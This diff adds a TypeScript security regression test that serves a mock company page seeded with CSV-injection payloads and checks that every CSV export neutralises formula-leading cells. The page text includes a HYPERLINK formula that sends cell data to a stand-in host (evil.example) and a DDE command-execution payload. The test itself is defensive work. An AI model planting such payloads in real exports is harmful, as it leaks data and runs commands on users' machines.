@@ -1,0 +1,118 @@
+/**
+ * Finding 10: CSV exports carried scraped text into spreadsheets unguarded. Here a company page
+ * that plants formulas in what the analyser reads goes through the whole product (analyse,
+ * generate, save with the rep's own edits that open with formula characters, read back), and
+ * every CSV the product writes — the spec's export and each sequencer sheet — is parsed cell by
+ * cell: no cell may open with `=`, `+`, `-`, `@`, tab or carriage return (OWASP "CSV
+ * Injection"). The builders are the web app's own (web/src/lib/exports), the sequence is the
+ * one the running system produced and stored.
+ */
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { buildExport, EXPORT_FORMATS } from '../../web/src/lib/exports/index.ts';
+import { parseCsv } from '../../web/src/lib/exports/test-support.ts';
+import { client, type RunningSystem, startSystem } from './support.ts';
+
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+const HOSTILE_PAGE = `<!doctype html><html lang="en"><head>
+<title>=HYPERLINK("http://evil.example/?leak="&A1,"Ledgerly") | Ledgerly</title>
+<meta name="description" content="@SUM(1+1) Ledgerly closes the books for finance teams in days, not weeks.">
+</head><body><main>
+<section><h1>=cmd|' /C calc'!A0 Close the month in two days</h1>
+<p>+1 Ledgerly reconciles bank feeds, cards and invoices automatically for finance teams.</p></section>
+<section><h2>The problem</h2><ul>
+<li>-2+3 Finance teams spend a week every month matching transactions by hand.</li>
+<li>@SUM(A1) Spreadsheets break when the controller is away and nobody trusts the numbers.</li>
+</ul></section>
+<section><h2>How Ledgerly helps</h2><ul>
+<li><strong>Automatic matching.</strong> Ledgerly matches bank transactions to invoices as they arrive.</li>
+<li><strong>Audit trail.</strong> Every change is logged, so the auditors get answers in minutes.</li>
+</ul></section>
+</main></body></html>`;
+
+describe('finding 10: every CSV the product writes neutralises formulas (embedded, npm start)', () => {
+  let system: RunningSystem;
+  let site: http.Server;
+  let origin: string;
+
+  beforeAll(async () => {
+    site = http.createServer((_request, response) => {
+      response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
+      response.end(HOSTILE_PAGE);
+    });
+    site.listen(0, '127.0.0.1');
+    await new Promise((resolve) => site.once('listening', resolve));
+    origin = `http://127.0.0.1:${(site.address() as AddressInfo).port}`;
+    system = await startSystem({ infra: 'embedded', env: { FETCH_ALLOWED_LOOPBACK_ORIGINS: origin } });
+  }, 180_000);
+
+  afterAll(async () => {
+    await system?.stop();
+    await new Promise((resolve) => site?.close(resolve));
+  }, 60_000);
+
+  it('keeps planted formulas inert in the spec CSV and every sequencer sheet', async () => {
+    const call = client(system.url);
+    expect(
+      (await call('POST', '/api/register', { email: `csv-${Date.now()}@example.com`, password: 'a long password 1' }))
+        .status,
+    ).toBe(201);
+    const companyUrl = `${origin}/`;
+    const analysed = await call('POST', '/api/analyze-company', { companyUrl });
+    expect(analysed.status, JSON.stringify(analysed.body)).toBe(200);
+    const generated = await call('POST', '/api/generate-emails', {
+      companyUrl,
+      analysis: analysed.body.analysis,
+      customization: {
+        persona: 'specific',
+        specificPersona: 'Controller',
+        seniority: 'above',
+        industry: 'specific',
+        specificIndustry: 'SaaS',
+        tone: 50,
+        additionalContext: '',
+        targetSpecificCompany: 'no',
+        prospectCompanyUrl: '',
+      },
+    });
+    expect(generated.status, JSON.stringify(generated.body)).toBe(200);
+
+    // The rep's own edits are untrusted too: a subject and a body that open like formulas.
+    const emails = generated.body.sequence.map((email: { subject: string; body: string }, index: number) =>
+      index === 0 ? { subject: '=1+1 quick question', body: `@SUM(A1)\n${email.body}` } : email,
+    );
+    const saved = await call('POST', '/api/save-sequence', {
+      title: '-Ledgerly outbound',
+      companyUrl,
+      emailSequence: { sequence: emails },
+    });
+    expect(saved.status, JSON.stringify(saved.body)).toBe(201);
+    const [stored] = (await call('GET', '/api/saved-sequences')).body;
+    expect(stored.emailSequence.sequence[0].subject).toBe('=1+1 quick question');
+
+    const csvFormats = EXPORT_FORMATS.filter((format) => format.extension === 'csv');
+    expect(csvFormats.map((format) => format.id)).toEqual(['csv', 'hubspot', 'outreach', 'apollo']);
+    let cellsChecked = 0;
+    for (const format of csvFormats) {
+      const file = buildExport(format.id, {
+        title: stored.title,
+        emails: stored.emailSequence.sequence,
+        cadence: [0, 3, 7, 11, 16, 21, 28],
+        companyUrl,
+      });
+      const cells = parseCsv(file.content).flat();
+      cellsChecked += cells.length;
+      expect(
+        cells.filter((cell) => FORMULA_START.test(cell)),
+        format.id,
+      ).toEqual([]);
+      expect(
+        cells.some((cell) => cell.startsWith("'=1+1 quick question")),
+        format.id,
+      ).toBe(true);
+    }
+    console.log(`[fault 10] ${cellsChecked} CSV cells in ${csvFormats.length} formats, 0 open like a formula`);
+  }, 120_000);
+});
